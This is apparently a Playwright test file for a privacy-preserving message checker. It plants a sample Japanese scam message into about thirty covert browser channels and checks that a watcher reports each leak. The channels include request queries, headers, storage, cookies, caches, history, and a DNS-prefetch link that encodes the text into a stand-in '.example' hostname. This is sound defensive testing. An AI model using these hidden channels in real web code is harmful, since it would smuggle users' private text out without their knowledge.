import { expect, test } from './site.ts';

/** Each leak is planted in a page that holds a message, and the watch has to tell of it. */

const MESSAGE = 'むらさきの招き猫の未納料金があります。本日中に03-6709-0299へご連絡ください。';

type Leak = (message: string) => unknown;

const LEAKS: Readonly<Record<string, readonly [leak: Leak, told: RegExp]>> = {
  'the query of a request to the own host': [
    (message) => fetch(`../favicon.svg?${encodeURIComponent(message)}`),
    /^a request: “.*” of a message/,
  ],
  'the query of a request, of which nothing is known': [
    () => fetch('../favicon.svg?said-today'),
    /^a request: no file of the site/,
  ],
  'the path of a request': [
    (message) => fetch(`../icons/${btoa(encodeURIComponent(message))}.png`),
    /^a request: “.*” of a message/,
  ],
  'the address of a picture': [
    (message) =>
      new Promise((done) => {
        const image = new Image();
        image.onload = done;
        image.src = `../favicon.svg?${new URLSearchParams({ message })}`;
      }),
    /^a request: “.*” of a message/,
  ],
  'a header of a request': [
    (message) => fetch('../favicon.svg', { headers: { 'x-note': encodeURIComponent(message) } }),
    /^a request for .*favicon.svg: “.*” of a message/,
  ],
  'the body of a request': [
    (message) => fetch('../favicon.svg', { method: 'POST', body: message }),
    /^a request for .*favicon.svg: “.*” of a message/,
  ],
  'the fragment of the address': [
    (message) => {
      location.hash = `#q=${message}`;
    },
    /^the history: “.*” of a message/,
  ],
  'an address that is gone again': [
    (message) => {
      history.pushState(null, '', `?q=${encodeURIComponent(message)}`);
      history.pushState(null, '', './');
    },
    /^the history: “.*” of a message/,
  ],
  'the state of the history': [
    (message) => history.replaceState({ message }, ''),
    /^the state of the history: “.*” of a message/,
  ],
  'the title': [
    (message) => {
      document.title = message.slice(5, 15);
    },
    /^the title: “.*” of a message/,
  ],
  'window.name': [
    (message) => {
      window.name = [...message].reverse().join('').replace(/\D/g, '');
    },
    /^window.name: “#\d+” of a message/,
  ],
  localStorage: [
    (message) => localStorage.setItem(message.slice(0, 8), '1'),
    /^localStorage: “.*” of a message/,
  ],
  sessionStorage: [
    (message) => sessionStorage.setItem('a', JSON.stringify({ message })),
    /^sessionStorage: “.*” of a message/,
  ],
  'a cookie': [
    (message) => {
      // biome-ignore lint/suspicious/noDocumentCookie: the leak that is planted
      document.cookie = `a=${encodeURIComponent(message)}`;
    },
    /^a cookie: “.*” of a message/,
  ],
  'a database': [
    (message) =>
      new Promise<void>((done) => {
        const request = indexedDB.open('a');
        request.onupgradeneeded = () => {
          request.result.createObjectStore('b', { autoIncrement: true }).add({ message });
        };
        request.onsuccess = () => {
          request.result.close();
          done();
        };
      }),
    /^database a: “.*” of a message/,
  ],
  'the name of a cache': [
    (message) => caches.open(message),
    /^the name of a cache: “.*” of a message/,
  ],
  'an address in a cache': [
    async (message) =>
      (await caches.open('a')).put(`/a?${encodeURIComponent(message)}`, new Response('a')),
    /^an address in cache a: “.*” of a message/,
  ],
  'a file in a cache': [
    async (message) =>
      (await caches.open('a')).put('/a', new Response(btoa(encodeURIComponent(message)))),
    /^\/a in cache a: “.*” of a message/,
  ],
  'a file of the site’s own': [
    async (message) => {
      const folder = await navigator.storage.getDirectory();
      const file = await (await folder.getFileHandle('a', { create: true })).createWritable();
      await file.write(message);
      await file.close();
    },
    /^a file of the site’s own: “.*” of a message/,
  ],
  'the name of another host': [
    (message) => {
      const link = document.createElement('link');
      link.rel = 'dns-prefetch';
      link.href = `//${Array.from(message.slice(0, 8), (one) => one.charCodeAt(0).toString(16)).join('')}.example/`;
      document.head.append(link);
      link.remove();
    },
    /^a link to /,
  ],
  'a link of the page that nobody taps': [
    (message) => {
      const link = document.createElement('a');
      link.href = `../called/?said=${encodeURIComponent(message)}`;
      document.body.append(link);
    },
    /^a href: “.*” of a message/,
  ],
  'a link of the page, behind its address': [
    (message) => document.querySelector('a')?.setAttribute('href', `../called/#${message}`),
    /^a href: “.*” of a message/,
  ],
  'localStorage, as code numbers': [
    (message) => localStorage.setItem('a', Array.from(message, (one) => one.charCodeAt(0)).join()),
    /^localStorage: “.*” of a message/,
  ],
  'localStorage, as a hash': [
    async (message) => {
      const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(message));
      localStorage.setItem('a', new Uint8Array(hash).join());
    },
    /^localStorage: “sha256 of .*” of a message/,
  ],
  'localStorage, as a hash of our own': [
    (message) =>
      localStorage.setItem(
        'a',
        String([...message].reduce((sum, one) => (sum * 31 + one.charCodeAt(0)) >>> 0, 7)),
      ),
    /^localStorage: more than the site keeps/,
  ],
  'the name of a key that the site has, in another spelling': [
    (message) =>
      localStorage.setItem(
        'text-size',
        Array.from(message, (one) => one.charCodeAt(0).toString(36)).join(' '),
      ),
    /^localStorage: more than the site keeps/,
  ],
  'an address that the next one replaces at once': [
    (message) => {
      const codes = Array.from(message, (one) => one.charCodeAt(0)).join();
      history.replaceState(null, '', `#${codes}`);
      history.replaceState(null, '', './');
    },
    /^the address: “.*” of a message/,
  ],
  'a link in a shadow tree': [
    (message) => {
      const host = document.createElement('div');
      document.body.append(host);
      const link = document.createElement('a');
      link.href = `../called/?said=${message}`;
      host.attachShadow({ mode: 'closed' }).append(link);
    },
    /^a href: “.*” of a message/,
  ],
  'a frame': [() => document.body.append(document.createElement('iframe')), /^a frame: <iframe/],
  'a frame further down': [
    () => {
      const outer = document.createElement('div');
      outer.append(document.createElement('object'));
      document.body.append(outer);
    },
    /^a frame: <object/,
  ],
  'the name of a server of peer connections': [
    async (message) => {
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: `stun:a${message.length}.example` }],
      });
      peer.close();
    },
    /^a peer connection: .*stun:/,
  ],
  'the console': [(message) => console.log(message), /^the console: “.*” of a message/],
};

for (const [where, [leak, told]] of Object.entries(LEAKS)) {
  test(`a message in ${where} is told`, async ({ page, context, watch }) => {
    await page.goto('check/');
    await page.locator('textarea[name="message"]').fill(MESSAGE);
    await page.evaluate(leak, MESSAGE);
    await watch.examine(context);
    expect(watch.end()).toContainEqual(expect.stringMatching(told));
  });
}

test('a message in a context of its own is told', async ({ newContext, watch }) => {
  const context = await newContext();
  const page = await context.newPage();
  await page.goto('check/');
  await page.locator('textarea[name="message"]').evaluate((box: HTMLTextAreaElement, message) => {
    // As the reading of a picture does it, without a key pressed.
    box.value = message;
    window.name = message;
  }, MESSAGE);
  await watch.examine(context);
  expect(watch.end()).toEqual([expect.stringMatching(/^window.name: “.*” of a message/)]);
});

test('a message that is only read is nowhere', async ({ page, context, watch }) => {
  await page.goto('check/');
  await page.locator('textarea[name="message"]').fill(MESSAGE);
  await expect(page.locator('[data-level]')).toBeVisible();
  await watch.examine(context);
  expect(watch.end()).toEqual([]);
});
